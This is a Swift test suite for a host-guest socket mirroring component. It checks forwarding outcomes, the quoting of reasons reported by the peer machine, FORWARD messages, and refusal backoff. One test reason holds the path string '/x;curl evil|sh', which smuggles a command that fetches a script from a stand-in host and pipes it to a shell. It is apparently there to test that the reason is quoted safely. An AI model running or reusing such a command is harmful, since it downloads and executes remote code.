import Posix
import Testing
import TwinportModel
import Wire

@testable import Mirroring

@Suite struct ForwardOutcomeTests {
    private func entry(_ listener: Role) -> ForwardEntry {
        ForwardEntry(
            Forward(
                place: RulePlace(number: 1), host: .unix("/h"), guest: .unix("/g"),
                listener: listener))
    }

    private let live = ForwardConditions(hasSession: true, peerKnows: true)

    @Test func `a side listens while the other one says that the service is there`() {
        let entry = entry(.host)
        #expect(live.listens(for: entry) == nil)
        entry.peer = .absent(.missing("/g"))
        #expect(live.listens(for: entry) == false)
        #expect(live.outcome(of: entry) == .absent(.missing("/g")))
        entry.peer = .active
        #expect(live.listens(for: entry) == true)
        entry.find(.init(state: .conflict, reason: .other("taken")))
        #expect(live.outcome(of: entry).state == .conflict)
        // An outage closes nothing by itself.
        #expect(ForwardConditions().listens(for: entry) == nil)
        let off = ForwardConditions(disabled: "x is false", hasSession: true, peerKnows: true)
        #expect(off.listens(for: entry) == false && off.outcome(of: entry).state == .disabled)
    }

    @Test func `the other machine's words about a socket are not taken for this side's own`() {
        let entry = entry(.host)
        func told(_ state: MirrorState, _ reason: Reason) -> ForwardOutcome {
            let message = ForwardStateMessage(
                id: ListenerID(forward: 1), state: state, reason: reason.text)
            return ForwardOutcome(told: message, of: entry)
        }
        let place = Endpoint(.loopbackV4, 80)
        let ofSocket: [Reason] = [
            .inUse(place), .heldBy(owner: "7/x", place), .twinportHolds("x", place),
            .guestHolds("x", place), .needsPrivilege(80), .noSuchAddress(.loopbackV4),
            .forward(.pathInUse("/x")), .forward(.anothersSocket("/x", user: 7)),
            .forward(.unsafeOwner("/x", user: 7)), .forward(.unsafeMode("/x;curl evil|sh")),
            .forward(.noRights(user: 7)), .forward(.replaced("/x")), .forward(.missing("/h")),
            .forward(.system("/x", "Read-only file system")),
        ]
        for reason in ofSocket {
            let quoted = Reason.other("the other machine says: \(reason.text)")
            #expect(told(.denied, reason) == .init(state: .denied, reason: quoted))
            #expect(told(.conflict, reason) == .init(state: .unavailable, reason: quoted))
        }
        #expect(told(.conflict, .forward(.noSocket("/x"))).state == .unavailable)
        for trouble in [
            ForwardTrouble.missing("/g"), .silent("/g"), .noSocket("/g"), .notAllowed, .openerEnded,
            .system("/g", "Permission denied"), .nothingListens(place),
        ] {
            #expect(told(.unavailable, .forward(trouble)).reason == .forward(trouble))
        }
        // Where the other one listens, all of that is its to say.
        let listening = self.entry(.guest)
        let message = ForwardStateMessage(
            id: ListenerID(forward: 1), state: .conflict, reason: Reason.inUse(place).text)
        #expect(ForwardOutcome(told: message, of: listening).reason == .inUse(place))
    }

    @Test func `a side with the service never listens, and shows what the other one says`() {
        let entry = entry(.guest)
        #expect(live.listens(for: entry) == false)
        entry.find(.absent(.missing("/h")))
        entry.peer = .active
        #expect(live.outcome(of: entry).state == .unavailable)
        entry.find(.active)
        entry.peer = .init(state: .denied, reason: .other("no"))
        #expect(live.outcome(of: entry).state == .denied)
        let old = ForwardConditions(hasSession: true)
        #expect(old.outcome(of: entry).state == .unsupported)
        #expect(ForwardConditions().outcome(of: entry).reason == .tunnelDown)
    }

    @Test func `FORWARD names the guest's end and never the host's`() throws {
        let message = try #require(ForwardMessage(entry(.guest), ListenerID(forward: 1)))
        #expect(message.place == .unix("/g") && message.guestListens)
        let guests = ForwardEntry(message)
        #expect(guests.part.listens && guests.direction == .hostToGuest)
        #expect(
            guests.view.socket == "unix:///g" && guests.view.service == "(forward 1 on the host)")
        #expect(ForwardMessage(guests, ListenerID(forward: 1)) == nil)
        let row = PortSnapshot(guests, .active)
        #expect(row.kind == .unix && row.mirrorText == "unix:///g")
        // Connections that nobody answered are told while the socket is there, and no longer than until one is.
        for code in [ResetCode.limit, .disabled, .refused, .timedOut] {
            info(guests).listenerFailed(code)
        }
        #expect(PortSnapshot(guests, .active).reason == .targetFails(2))
        #expect(PortSnapshot(guests, .absent(.silent("/x"))).reason == .forward(.silent("/x")))
        let good = info(guests)
        good.listenerAnswered()
        good.listenerFailed(.refused)
        #expect(PortSnapshot(guests, .active).reason == .none)
    }

    private func info(_ entry: ForwardEntry) -> FlowInfo {
        FlowInfo(
            id: 1, transport: .tcp, direction: entry.direction, listener: .nowhere,
            mirror: .nowhere, client: .nowhere, now: 0, traffic: entry.traffic)
    }

    @Test func `a file that refuses is believed to be dead for longer each time`() {
        var local = ForwardEntry.Local()
        let file = FileIdentity(device: 1, inode: 2)
        func isDead(_ file: FileIdentity, _ now: UInt64) -> Bool { local.isDead(file, now: now) }
        #expect(!isDead(file, 0))
        local.noteRefusal(now: 0)
        #expect(isDead(file, 1_999) && !isDead(file, 2_000))
        local.noteRefusal(now: 2_000)
        #expect(isDead(file, 5_999) && !isDead(file, 6_000))
        #expect(!isDead(FileIdentity(device: 1, inode: 3), 2_500))
    }
}
